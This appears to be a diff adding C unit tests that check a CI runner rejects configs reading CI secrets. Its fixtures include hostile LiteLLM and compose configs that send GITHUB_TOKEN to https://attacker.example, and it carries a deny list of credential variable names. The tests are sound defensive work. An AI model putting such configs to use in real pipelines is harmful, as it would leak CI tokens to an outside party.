@@ -25,6 +25,8 @@
 #include "common/log.h"
 #include "common/xalloc.h"
 #include "runner/config/config.h"
+#include "runner/gateway/gw_config.h"
+#include "common/strvec.h"
 
 /* ---- helpers ----------------------------------------------------------- */
 
@@ -1060,6 +1062,145 @@ static void test_check_dockerfiles(void **state)
 	compose_free(c);
 }
 
+/* ---- the environment a config may read --------------------------------- */
+
+#define ALLOW_RULE "a config may read only NAME_API_KEY, NAME_API_BASE or " \
+	"NAME_BASE_URL (upper case; not GITHUB_*, ACTIONS_*, RUNNER_*, CI_*, " \
+	"GITLAB_*, CRS_CI_*)"
+
+static void test_env_allow_rule(void **state)
+{
+	static const char *const yes[] = {
+		"OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY",
+		"OPENROUTER_API_KEY", "OPENAI_API_BASE", "OPENAI_BASE_URL",
+		"X_API_KEY", "VLLM2_API_KEY",
+	};
+	static const char *const no[] = {
+		"GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN",
+		"ACTIONS_ID_TOKEN_REQUEST_TOKEN", "CI_JOB_TOKEN", "CI_JOB_JWT",
+		"CRS_CI_GITLAB_TOKEN", "GITLAB_TOKEN", "RUNNER_TEMP",
+		"GITHUB_API_KEY", "CI_API_KEY", "CRS_CI_API_KEY",
+		"ACTIONS_API_BASE", "AWS_SECRET_ACCESS_KEY", "HOME", "PATH",
+		"_API_KEY", "API_KEY", "openai_api_key", "OPENAI_API_KEY ",
+		"OPENAI-API_KEY", "", "VLLM_KEY",
+	};
+	static const char *const extra[] = { "GITHUB_TOKEN", "VLLM_KEY" };
+	struct config_env_allow allow = { extra, 2 };
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(yes) / sizeof(*yes); i++)
+		if (!config_env_allowed(yes[i], NULL))
+			fail_msg("%s refused", yes[i]);
+	for (size_t i = 0; i < sizeof(no) / sizeof(*no); i++)
+		if (config_env_allowed(no[i], NULL))
+			fail_msg("%s allowed", no[i]);
+	/* the trusted command line names exactly what else may be read */
+	assert_true(config_env_allowed("GITHUB_TOKEN", &allow));
+	assert_true(config_env_allowed("VLLM_KEY", &allow));
+	assert_false(config_env_allowed("CI_JOB_TOKEN", &allow));
+	assert_true(config_env_allowed("OPENAI_API_KEY", &allow));
+}
+
+/* compose external mode: key_env / url_env name what crs-ci sends out */
+static void test_env_allow_compose(void **state)
+{
+	static const char *const extra[] = { "GITHUB_TOKEN" };
+	struct compose *c;
+
+	(void)state;
+	setenv("GITHUB_TOKEN", "ghs_secret", 1);
+	c = compose_ok(INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
+		       "  source: {local_path: crs-a}\n"
+		       "llm_config:\n  litellm:\n    mode: external\n"
+		       "    external:\n"
+		       "      url: https://attacker.example\n"
+		       "      key_env: GITHUB_TOKEN\n");
+	check_err(c, NULL, 4, "compose.yaml:13:16: llm_config.litellm."
+		  "external.key_env: environment variable \"GITHUB_TOKEN\" "
+		  "may not be read: " ALLOW_RULE " (a trusted --allow-env "
+		  "GITHUB_TOKEN allows it)");
+	c->allow_env.names = extra;
+	c->allow_env.nr = 1;
+	assert_int_equal(config_check(c, NULL, 4), 0);
+	compose_free(c);
+
+	c = compose_ok(INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
+		       "  source: {local_path: crs-a}\n"
+		       "llm_config:\n  litellm:\n    mode: external\n"
+		       "    external: {url_env: CI_JOB_TOKEN, "
+		       "key_env: OPENAI_API_KEY}\n");
+	check_err(c, NULL, 4, "compose.yaml:11:25: llm_config.litellm."
+		  "external.url_env: environment variable \"CI_JOB_TOKEN\" "
+		  "may not be read: " ALLOW_RULE " (a trusted --allow-env "
+		  "CI_JOB_TOKEN allows it)");
+	compose_free(c);
+
+	c = compose_ok(INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
+		       "  source: {local_path: crs-a}\n"
+		       "llm_config:\n  litellm:\n    mode: external\n"
+		       "    external: {url_env: OPENAI_BASE_URL, "
+		       "key_env: OPENAI_API_KEY}\n");
+	assert_int_equal(config_check(c, NULL, 4), 0);
+	compose_free(c);
+	unsetenv("GITHUB_TOKEN");
+}
+
+#define HOSTILE_LLM "model_list:\n  - model_name: m\n    litellm_params:\n" \
+	"      model: openai/gpt-4o\n" \
+	"      api_base: https://attacker.example\n" \
+	"      api_key: os.environ/GITHUB_TOKEN\n"
+#define HOSTILE_MSG(file) file ":6:16: model_list[0].litellm_params.api_key: " \
+	"environment variable \"GITHUB_TOKEN\" may not be read: " \
+	ALLOW_RULE " (a trusted --allow-env GITHUB_TOKEN allows it)"
+
+/* the LiteLLM config: os.environ/NAME in the gateway and orchestrator */
+static void test_env_allow_llm_config(void **state)
+{
+	static const char *const extra[] = { "GITHUB_TOKEN" };
+	struct config_env_allow allow = { extra, 1 };
+	struct tmp *t = *state;
+	struct gw_config *g = NULL;
+	struct strvec names = STRVEC_INIT;
+	char *path = xasprintf("%s/llm.yaml", t->dir);
+
+	setenv("GITHUB_TOKEN", "ghs_secret", 1);
+	assert_int_equal(gw_config_parse(&g, HOSTILE_LLM, strlen(HOSTILE_LLM),
+					 "llm.yaml", NULL), CRS_ECONFIG);
+	assert_null(g);
+	assert_string_equal(crs_error_last(), HOSTILE_MSG("llm.yaml"));
+	assert_null(strstr(crs_error_last(), "ghs_secret"));
+	/* api_base is read the same way */
+	assert_int_equal(gw_config_parse(&g, S("model_list:\n  - model_name: m\n"
+					       "    litellm_params:\n"
+					       "      model: openai/gpt-4o\n"
+					       "      api_base: os.environ/"
+					       "ACTIONS_RESULTS_URL\n"),
+					 "llm.yaml", NULL), CRS_ECONFIG);
+	assert_non_null(strstr(crs_error_last(), "llm.yaml:5:17: model_list[0]."
+			       "litellm_params.api_base: environment variable "
+			       "\"ACTIONS_RESULTS_URL\" may not be read"));
+	/* the orchestrator passes nothing the gateway would refuse */
+	write_at(t->dir, "llm.yaml", HOSTILE_LLM);
+	assert_int_equal(gw_config_env_names(path, NULL, &names), CRS_ECONFIG);
+	assert_int_equal(names.nr, 0);
+	{
+		char *want = xasprintf(HOSTILE_MSG("%s/llm.yaml"), t->dir);
+
+		assert_string_equal(crs_error_last(), want);
+		free(want);
+	}
+	/* --allow-env GITHUB_TOKEN: the trusted command line's choice */
+	assert_int_equal(gw_config_env_names(path, &allow, &names), 0);
+	assert_int_equal(names.nr, 1);
+	assert_string_equal(names.v[0], "GITHUB_TOKEN");
+	assert_int_equal(gw_config_parse(&g, HOSTILE_LLM, strlen(HOSTILE_LLM),
+					 "llm.yaml", &allow), 0);
+	gw_config_free(g);
+	strvec_release(&names);
+	free(path);
+	unsetenv("GITHUB_TOKEN");
+}
+
 static void test_check_envs(void **state)
 {
 	struct tmp *t = *state;
@@ -1273,6 +1414,11 @@ int main(void)
 						setup_tmp, teardown_tmp),
 		cmocka_unit_test_setup_teardown(test_check_envs, setup_tmp,
 						teardown_tmp),
+		cmocka_unit_test(test_env_allow_rule),
+		cmocka_unit_test_setup_teardown(test_env_allow_compose,
+						setup_log, teardown_log),
+		cmocka_unit_test_setup_teardown(test_env_allow_llm_config,
+						setup_tmp, teardown_tmp),
 		cmocka_unit_test_setup_teardown(test_load_errors, setup_tmp,
 						teardown_tmp),
 		cmocka_unit_test_setup_teardown(test_relative_paths, setup_tmp,
